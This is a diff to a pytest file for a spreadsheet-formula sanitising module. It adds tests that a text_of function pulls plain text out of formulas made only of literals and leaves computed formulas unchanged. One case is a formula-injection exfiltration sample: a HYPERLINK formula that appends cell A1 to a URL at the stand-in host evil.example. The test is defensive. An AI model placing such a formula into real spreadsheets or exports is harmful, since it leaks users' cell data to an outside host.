@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from backend.core.sheets.formulas import RISKY, escape, is_risky, neutralise, restore
+from backend.core.sheets.formulas import RISKY, escape, is_risky, neutralise, restore, text_of
 
 # Texts of the kind that matters here come up by chance too seldom.
 TEXTS = st.text() | st.from_regex(f"\\A'{{0,3}}[{RISKY}].{{0,3}}")
@@ -47,3 +47,29 @@ def test_other_texts_stay(first: str, more: str) -> None:
 )
 def test_examples(text: str, neutralised: str) -> None:
     assert neutralise(text) == neutralised
+
+
+@pytest.mark.parametrize(
+    ("cell", "text"),
+    [
+        ('="0123"', "0123"),
+        ('= "0123"', "0123"),
+        ('=("0123")', "0123"),
+        ('=T("0123")', "0123"),
+        ('="say ""hi"""', 'say "hi"'),
+        ('="+91"&"98480"', "+9198480"),
+        ('=CONCATENATE("+91", "98480")', "+9198480"),
+        ('=HYPERLINK("tel:+9198480","98480")', "98480"),
+        ('=HYPERLINK("https://wa.me/9198480")', "https://wa.me/9198480"),
+        ('=""', ""),
+        # What would have to be calculated
+        ('="a"&B2', '="a"&B2'),
+        ('=LEFT("0123",2)', '=LEFT("0123",2)'),
+        ("=1+1", "=1+1"),
+        ('=HYPERLINK("http://evil.example?"&A1,"x")', '=HYPERLINK("http://evil.example?"&A1,"x")'),
+        ('="a', '="a'),
+        ('=("a"', '=("a"'),
+    ],
+)
+def test_a_formula_that_is_only_a_text(cell: str, text: str) -> None:
+    assert text_of(cell) == text
